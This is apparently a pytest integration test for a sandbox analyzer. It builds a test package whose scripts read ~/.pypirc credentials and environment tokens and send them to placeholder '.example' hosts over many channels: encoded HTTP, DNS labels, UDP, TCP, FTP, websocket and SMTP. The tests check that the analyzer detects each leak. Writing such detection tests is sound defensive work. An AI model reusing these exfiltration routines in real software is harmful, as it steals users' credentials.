"""Planted secrets that are sent are found in what was sent, in whatever way they go; what is read only, or replaced, is not."""

from __future__ import annotations

import textwrap
from functools import cache
from pathlib import Path

import pytest

from analyzer.model.report import Evidence, Report
from analyzer.sandbox.interface import Manner
from tests.integration.analysing import everywhere, report_of
from tests.packages import make_wheel

_PLACE = "/home/alex/.pypirc"

WAYS = {
    "plain_body": 'post(loot)',
    "header": 'get("/", {"X-Data": password})',
    "path": 'get("/files/" + password + "/x")',
    "query": 'get("/?" + urllib.parse.urlencode({"q": "a b", "v": password + " &"}))',
    "base64_of_json": 'post(base64.b64encode(json.dumps({"host": "x", "file": loot.decode()}).encode()))',
    "hex_of_part": 'post(b"v=" + password.encode()[:16].hex().encode())',
    "gzip_in_base64_in_json": 'post(json.dumps({"d": base64.b64encode(gzip.compress(loot)).decode()}).encode())',
    "reversed_in_base64": 'post(base64.b64encode(loot[::-1]))',
    "zip": 'post(zipped(loot))',
    "xor": 'post(bytes(byte ^ 0x5A for byte in loot))',
    "dns_labels": """
        text = base64.b32encode(loot).decode().rstrip("=").lower()
        for number in range(0, len(text), 40):
            lookup(f"{number // 40}.{text[number : number + 40]}.{{name}}.example")
    """,
    "udp": 'datagram(loot)',
    "tcp": 'stream(b"\\\\x00\\\\x01" + loot, 4444)',
    "tls": 'urllib.request.urlopen("https://{name}.example/", data=loot).read()',
    "chunks": """
        text = base64.b64encode(loot).decode()
        for number in range(0, len(text), 12):
            post(json.dumps({"part": number, "data": text[number : number + 12]}).encode())
    """,
    "ftp": """
        import ftplib, io
        with ftplib.FTP() as server:
            server.connect("{name}.example", 21, timeout=5)
            server.login()
            server.storbinary("STOR loot.txt", io.BytesIO(loot))
    """,
    "websocket": """
        import struct
        with socket.create_connection(("{name}.example", 80), timeout=5) as line:
            line.sendall(b"GET /ws HTTP/1.1\\r\\nHost: {name}.example\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
                         b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n")
            line.recv(4096)
            mask = os.urandom(4)
            masked = bytes(byte ^ mask[at % 4] for at, byte in enumerate(loot))
            line.sendall(b"\\x82" + struct.pack("!BH", 0xFE, len(loot)) + mask + masked)
            line.recv(4096)
    """,
    "mail": """
        import smtplib
        with smtplib.SMTP("{name}.example", 25, timeout=5) as server:
            server.sendmail("a@a.example", ["b@b.example"], "Subject: x\\\\r\\\\n\\\\r\\\\n" + loot.decode())
    """,
}  # fmt: skip
"""Each is the body of a command of its own, and sends to a host of its own."""

NOT_SENT = {
    "only_read": 'get("/")',
    "something_else": 'post(hashlib.sha256(loot).hexdigest().encode())',
    "a_few_characters": 'post(password[:7].encode())',
}  # fmt: skip

ENVIRONMENT = """
    variable = next(name for name in os.environ if "TOKEN" in name or "SECRET" in name)
    get("/", {"Authorization": "Bearer " + os.environ[variable]})
"""

_BEGIN = """\
import base64, configparser, contextlib, gzip, hashlib, io, json, os, socket, urllib.parse, urllib.request, zipfile

def get(path, headers=None):
    urllib.request.urlopen(urllib.request.Request("http://{name}.example" + path, headers=headers or {})).read()

def post(data):
    urllib.request.urlopen("http://{name}.example/in", data=data).read()

def datagram(data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(data, (socket.gethostbyname("{name}.example"), 5514))

def stream(data, port):
    with socket.create_connection(("{name}.example", port), timeout=5) as line:
        line.sendall(data)

def lookup(name):
    with contextlib.suppress(OSError):
        socket.gethostbyname(name)

def zipped(data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("loot", data)
    return out.getvalue()

def main():
"""

_READ = """\
    loot = open(os.path.expanduser("~/.pypirc"), "rb").read()
    found = configparser.RawConfigParser()
    found.read_string(loot.decode())
    password = max((found.get(one, "password", fallback="") for one in found.sections()), key=len)
"""


def _module(name: str, body: str, *, reads: bool = True) -> str:
    host = name.replace("_", "-")
    indented = textwrap.indent(textwrap.dedent(body).strip(), "    ")
    text = _BEGIN + (_READ if reads else "") + indented + "\n"
    return text.replace("{{name}}", host).replace("{name}", host).replace("\\\\", "\\")


@pytest.fixture(scope="module")
def analysed(tmp_path_factory, cache_directory: Path):
    modules = {name: _module(name, body) for name, body in (WAYS | NOT_SENT).items()}
    modules["environment"] = _module("environment", ENVIRONMENT, reads=False)
    files = {f"sender/{name}.py": text for name, text in modules.items()}
    scripts = {f"send-{name.replace('_', '-')}": f"sender.{name}:main" for name in modules}
    wheel = make_wheel(
        tmp_path_factory.mktemp("sender"),
        "sender",
        modules=files | {"sender/__init__.py": ""},
        entry_points={"console_scripts": scripts},
    )

    @cache
    def analyse(sandbox: str, tracer: str) -> Report:
        return report_of(wheel, sandbox, tracer, cache_directory, Manner(callables=False))

    return analyse


def _evidence(report: Report) -> list[Evidence]:
    (issue,) = (one for one in report.issues if one.id == "secret.left-sandbox")
    return issue.evidence


@everywhere
def test_each_way_out_is_proven_from_read_to_send(analysed, sandbox: str, tracer: str) -> None:
    told = {name: [] for name in (*WAYS, *NOT_SENT, "environment")}
    report = analysed(sandbox, tracer)
    for one in _evidence(report):
        assert one.location is not None, one.detail
        told[Path(one.location.file).stem].append(one)
    assert [name for name in WAYS if not told[name]] == []
    assert [name for name in NOT_SENT if told[name]] == []
    for name in WAYS:
        (first, *_) = told[name]
        assert f" from {_PLACE} sent to " in first.detail
        assert name.replace("_", "-") in first.detail or "192.0.2." in first.detail or "://" in first.detail
        assert [step.event for step in first.before] == ["file.open"], name
        assert first.before[0].location is not None
        assert first.event == "network.secret"
        assert first.pid
    assert told["environment"][0].before[0].event == "python.call"
    assert "from $" in told["environment"][0].detail
    assert "in the headers" in told["environment"][0].detail


@everywhere
def test_how_it_was_written_is_told(analysed, sandbox: str, tracer: str) -> None:
    told = {Path(one.location.file).stem: one.detail for one in _evidence(analysed(sandbox, tracer)) if one.location}
    endings = {
        "plain_body": "in the body",
        "path": "in the path",
        "query": "in the query",
        "base64_of_json": "in the body as base64",
        "gzip_in_base64_in_json": "in the body as base64 of gzip",
        "reversed_in_base64": "in the body as base64 of reversed",
        "zip": "in the body as zip",
        "xor": "in the body as xor 0x5a",
        "dns_labels": "in the names asked for as base32",
        "chunks": "in the bodies of several messages as base64",
        "udp": "in the data",
        "tls": "in the body",
        "websocket": "in the data",
    }
    assert {name: told[name] for name, ending in endings.items() if not told[name].endswith(ending)} == {}
    assert "sent to https://tls.example/ " in told["tls"]


@everywhere
def test_the_report_is_complete_and_has_the_behavior(analysed, sandbox: str, tracer: str) -> None:
    report = analysed(sandbox, tracer)
    assert report.completeness.reasons == []
    (found,) = (one for one in report.behaviors if one.id == "steal.secret.exfiltrate")
    assert found.severity == "critical"
    assert found.witnesses == ["packet"]
